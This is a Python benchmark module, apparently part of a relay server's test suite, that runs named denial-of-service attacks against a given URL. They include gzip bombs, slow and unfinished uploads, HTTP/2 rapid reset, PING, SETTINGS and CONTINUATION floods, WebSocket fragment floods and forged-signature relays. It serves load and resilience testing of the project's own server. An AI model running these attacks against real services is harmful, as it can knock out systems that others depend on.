"""Attack an open relay port.

Usage: `python -m benchmarks.hostile ATTACK URL SECONDS RELAY`. RELAY is a file with a signed relay that was served,
which anybody may have seen. Prints how the connections ended. `python -m benchmarks.soak --hostile` runs all attacks
under paying load.
"""

import asyncio
import os
import struct
import sys
import time
import zlib
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress
from pathlib import Path
from typing import Final
from urllib.parse import urlsplit

from benchmarks.hostile_relays import relays_of_attackers

MIB: Final = 1024 * 1024
_NICENESS: Final = 15
"""Attackers have machines of their own: here they get the CPU time that relayer and paying clients leave."""
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
_HEAD: Final = b"\x83\x86\x84\x41\x01x"
"""Header block of POST, http, / and the authority x."""
_FIELDS: Final = _HEAD + b"\x90" * 1700
_UPGRADE: Final = (
    b"GET / HTTP/1.1\r\nHost: relayer\r\nTarget-Service-Id: eth\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
)


def _post(length: int, headers: bytes = b"") -> bytes:
    return b"POST / HTTP/1.1\r\nHost: relayer\r\nContent-Length: %d\r\n%s\r\n" % (length, headers)


def _h2(kind: int, stream: int, payload: bytes, flags: int = 0) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _bomb() -> bytes:
    packer = zlib.compressobj(9, wbits=31)
    packed = b"".join(packer.compress(bytes(MIB)) for _ in range(200)) + packer.flush()
    return _post(len(packed), b"Content-Encoding: gzip\r\n") + packed


def _resets() -> bytes:
    return b"".join(_h2(1, 2 * n + 1, _HEAD, 0x04) + _h2(3, 2 * n + 1, b"\0\0\0\x08") for n in range(2000))


def _oversized() -> bytes:
    header = b"\x40\x01x\x7f" + _hpack_length(100_000 - 127) + b"y" * 100_000
    block = _HEAD + header
    frames = []
    for n in range(200):
        parts = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
        for number, part in enumerate(parts):
            flags = (0x01 if not number else 0) | (0x04 if number == len(parts) - 1 else 0)
            frames.append(_h2(9 if number else 1, 2 * n + 1, part, flags))
    return b"".join(frames)


def _endless_block() -> bytes:
    field = b"\x40\x01x\x7f" + _hpack_length(16_000 - 127) + b"y" * 16_000
    return _h2(1, 1, _HEAD) + b"".join(_h2(9, 1, field) for _ in range(60))


def _heads(block: bytes, number: int, flags: int) -> bytes:
    return b"".join(_h2(1, 2 * n + 1, block, flags) for n in range(number))


def _hpack_length(rest: int) -> bytes:
    out = b""
    while rest >= 128:
        out += bytes([rest % 128 + 128])
        rest //= 128
    return out + bytes([rest])


class Attackers:
    """Connections of one attack, and how they ended."""

    def __init__(self, url: str, seconds: float, seen: bytes = b"") -> None:
        self.seen = seen
        parts = urlsplit(url)
        self._place = (str(parts.hostname), int(parts.port or 80))
        self._until = time.monotonic() + seconds
        self.ends: Counter[str] = Counter()
        self.sent = 0

    @property
    def running(self) -> bool:
        """Return True until the attack is over."""
        return time.monotonic() < self._until

    async def each(self, begin: bytes, again: bytes, pause: float, *, read: bool = True) -> None:
        """Attack on one connection after the other.

        Sends `begin`, then `again` every `pause` seconds, until the connection is cut.
        """
        while self.running:
            try:
                reader, writer = await asyncio.open_connection(*self._place, limit=4096)
            except OSError:
                self.ends["no connection"] += 1
                await asyncio.sleep(0.2)
                continue
            reading = asyncio.create_task(self._read(reader)) if read else None
            try:
                await self._send(writer, begin)
                while self.running and (reading is None or not reading.done()):
                    await self._send(writer, again)
                    await asyncio.sleep(pause)
                if not self.running:
                    self.ends["still open"] += 1
            except (OSError, TimeoutError):
                self.ends["cut"] += 1
            finally:
                writer.transport.abort()
                if reading is not None:
                    reading.cancel()
                    with suppress(asyncio.CancelledError, OSError):
                        await reading
            await asyncio.sleep(0.05)

    async def _send(self, writer: asyncio.StreamWriter, data: bytes) -> None:
        for at in range(0, len(data), 65_536):
            piece = data[at : at + 65_536]
            writer.write(piece)
            async with asyncio.timeout(max(0.1, self._until - time.monotonic())):
                await writer.drain()
            self.sent += len(piece)

    async def _read(self, reader: asyncio.StreamReader) -> None:
        first = await reader.read(4096)
        self.ends[_meaning(first)] += 1
        while await reader.read(65_536):
            pass

    async def many(self, number: int, begin: bytes, again: bytes, pause: float, *, read: bool = True) -> None:
        """Attack on several connections at the same time."""
        await asyncio.gather(*(self.each(begin, again, pause, read=read) for _ in range(number)))

    async def relaying(self, number: int, name: str) -> None:
        """Send relays that are made from one that was seen, on several connections."""
        bodies = relays_of_attackers(name, self.seen)
        share = max(1, len(bodies) // number)
        requests = [_post(len(body), _RPC_TYPE) + body for body in bodies]
        parts = [requests[at : at + share] for at in range(0, len(requests), share)]
        await asyncio.gather(*(self.each(b"", b"".join(parts[n % len(parts)]), 0.02) for n in range(number)))

    async def aborting(self, number: int, data: bytes) -> None:
        """Abort uploads before their end, on several connections."""

        async def one() -> None:
            while self.running:
                with suppress(OSError, TimeoutError):
                    _, writer = await asyncio.open_connection(*self._place)
                    try:
                        await self._send(writer, data)
                    finally:
                        writer.transport.abort()
                        self.ends["aborted"] += 1
                await asyncio.sleep(0.5)

        await asyncio.gather(*(one() for _ in range(number)))


def _meaning(first: bytes) -> str:
    if not first:
        return "cut"
    if first.startswith(b"HTTP/1."):
        return first[9:12].decode()
    return "HTTP/2"


_RPC_TYPE: Final = b"Rpc-Type: 3\r\n"
_PADDED: Final = _h2(0, 1, b"\xff" + bytes(255), 0x08)
_CHUNKED: Final = b"POST / HTTP/1.1\r\nHost: relayer\r\nTransfer-Encoding: chunked\r\n\r\n"
_FRAGMENT: Final = b"\xfe\x00\x80" + b"mask" + bytes(128)
_PINGS: Final = (b"\x89\x80" + b"mask") * 2000
_SETTINGS: Final = _h2(4, 0, b"".join(struct.pack(">HI", n % 65_536, n) for n in range(2000)))
_NO_WINDOW: Final = _h2(4, 0, struct.pack(">HI", 4, 0))
_PROBES: Final = _NO_WINDOW + _heads(b"\x82\x86\x41\x01x\x04\x07/health", 100, 0x05)
_TRAILERS: Final = _CHUNKED + b"1\r\nx\r\n0\r\n"
_BAD_UPGRADE: Final = _UPGRADE.replace(b"AAAA==", b"?")
_URL: Final = b"GET /" + b"a/..;" * 12_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n"
_ENDLESS: Final = b"\x02\xfe\xff\xff" + b"mask" + bytes(65_535)

ATTACKS: Final[dict[str, Callable[[Attackers], Awaitable[None]]]] = {
    "unfinished bodies": lambda s: s.many(60, _post(10 * MIB) + bytes(4 * MIB), b"x", 0.5),
    "aborted uploads": lambda s: s.aborting(20, _post(10 * MIB) + bytes(10 * MIB - 4096)),
    "gzip bombs": lambda s: s.many(10, _bomb(), b"", 0.1),
    "idle connections": lambda s: s.many(800, b"P", b"", 1.0),
    "responses not read": lambda s: s.many(20, b"", b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n" * 50, 0.2, read=False),
    "endless WebSocket messages": lambda s: s.many(40, _UPGRADE + _ENDLESS, (b"\0" + _ENDLESS[1:]) * 8, 0.1),
    "requests that are not HTTP": lambda s: s.many(20, b"\x16\x03\x01\x02\x00\x01\r\n\r\n" * 100, b"", 0.1),
    "pipelined requests": lambda s: s.many(20, b"", (_post(20_000) + bytes(20_000)) * 50, 0.1),
    "refused requests": lambda s: s.many(400, b"", _post(3) + b"abc", 0.002),
    "pipelined probes": lambda s: s.many(100, b"", b"GET /ready HTTP/1.1\r\nHost: x\r\n\r\n" * 200, 0.01),
    "HTTP/2 PING": lambda s: s.many(2, PREFACE, _h2(6, 0, b"12345678") * 4000, 0.0),
    "HTTP/2 WINDOW_UPDATE": lambda s: s.many(2, PREFACE, _h2(8, 0, struct.pack(">I", 1)) * 4000, 0.0),
    "HTTP/2 windows opened by a byte": lambda s: s.many(
        20, PREFACE + _PROBES, _h2(8, 0, struct.pack(">I", 1)) * 20, 0.05
    ),
    "HTTP/2 streams opened and reset": lambda s: s.many(2, PREFACE + _resets(), b"", 0.1),
    "HTTP/2 header fields of one byte": lambda s: s.many(
        2, PREFACE + _heads(_HEAD + b"\x90" * 1700, 1000, 0x05), b"", 0.1
    ),
    "HTTP/2 unfinished streams": lambda s: s.many(200, PREFACE + _heads(_HEAD, 250, 0x04), b"", 0.1),
    "HTTP/2 header blocks without an end": lambda s: s.many(200, PREFACE + _endless_block(), b"", 0.1),
    "HTTP/2 header blocks, then left": lambda s: s.aborting(20, PREFACE + _endless_block()),
    "HTTP/2 padded DATA": lambda s: s.many(2, PREFACE + _h2(1, 1, _HEAD, 0x04), _PADDED * 500, 0.0),
    "HTTP/2 DATA of closed streams": lambda s: s.many(
        2, PREFACE + _h2(1, 1, _HEAD, 0x04) + _h2(3, 1, b"\0\0\0\x08"), _h2(0, 1, bytes(256)) * 500, 0.0
    ),
    "chunks of one byte": lambda s: s.many(10, _CHUNKED, b"1\r\nx\r\n" * 2000, 0.05),
    "WebSocket fragments without an end": lambda s: s.many(10, _UPGRADE + b"\x02" + _FRAGMENT, b"\0" + _FRAGMENT, 0.01),
    "HTTP/2 oversized headers": lambda s: s.many(2, PREFACE + _oversized(), b"", 0.1),
    "HTTP/2 SETTINGS": lambda s: s.many(2, PREFACE, _SETTINGS * 10, 0.0),
    "HTTP/2 PRIORITY": lambda s: s.many(2, PREFACE, _h2(2, 1, b"\0\0\0\0\x10") * 4000, 0.0),
    "HTTP/2 empty DATA": lambda s: s.many(2, PREFACE + _h2(1, 1, _HEAD, 0x04), _h2(0, 1, b"") * 4000, 0.0),
    "WebSockets without a relay": lambda s: s.many(800, _UPGRADE, b"", 1.0),
    "WebSocket pings": lambda s: s.many(10, _UPGRADE, _PINGS, 0.01),
    "WebSocket handshakes that are invalid": lambda s: s.many(20, _BAD_UPGRADE, b"", 0.01),
    "trailers without an end": lambda s: s.many(20, _TRAILERS, b"a:b\r\n" * 2000, 0.02),
    "chunk extensions without an end": lambda s: s.many(20, _CHUNKED + b"1;", b"a" * 16_000, 0.02),
    "URLs of 60 KB": lambda s: s.many(20, b"", _URL, 0.02),
    "methods that are not served": lambda s: s.many(20, b"", b"TRACE / HTTP/1.1\r\nHost: x\r\n\r\n" * 50, 0.02),
    **{
        name: lambda s, name=name, number=number: s.relaying(number, name)  # type: ignore[misc]
        for name, number in {
            "copies of a served relay": 20,
            "copies with a byte behind the signature": 20,
            "forged signatures": 100,
            "rings of 150,000 members": 10,
            "relays of invented applications": 100,
        }.items()
    },
}
"""Attacks by name."""


async def attack(name: str, url: str, seconds: float, seen: bytes) -> str:
    """Run one attack and return how much it sent and how its connections ended."""
    attackers = Attackers(url, seconds, seen)
    await ATTACKS[name](attackers)
    ends = ", ".join(f"{number} x {what}" for what, number in attackers.ends.most_common(3))
    return f"{attackers.sent / MIB:.0f} MiB sent; {ends or 'no response'}"


def main() -> None:
    """Run the attack that the arguments name."""
    name, url, seconds, relay = sys.argv[1:5]
    os.nice(_NICENESS)
    print(asyncio.run(attack(name, url, float(seconds), Path(relay).read_bytes())))


if __name__ == "__main__":
    main()
